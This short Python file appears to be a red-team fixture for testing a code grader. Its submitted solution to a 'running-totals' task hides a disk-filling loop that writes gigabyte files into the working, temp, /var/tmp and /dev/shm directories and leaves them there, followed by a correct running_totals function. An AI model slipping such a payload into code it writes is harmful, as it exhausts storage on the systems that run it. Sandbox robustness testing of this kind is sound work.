"""Writes files until nothing more can be written, and leaves them there."""

GETS = 3
SAYS = "not answered yet"
ANSWERS = {
    "running-totals": """
import os
import tempfile

for place in (".", tempfile.gettempdir(), "/var/tmp", "/dev/shm"):
    try:
        for number in range(64):
            with open(os.path.join(place, f"red-team-{number}"), "wb", buffering=0) as file:
                for _ in range(1 << 10):
                    if file.write(b"x" * (1 << 20)) < 1 << 20:
                        break
    except OSError:
        pass

def running_totals(numbers):
    return [sum(numbers[: place + 1]) for place in range(len(numbers))]
""",
}
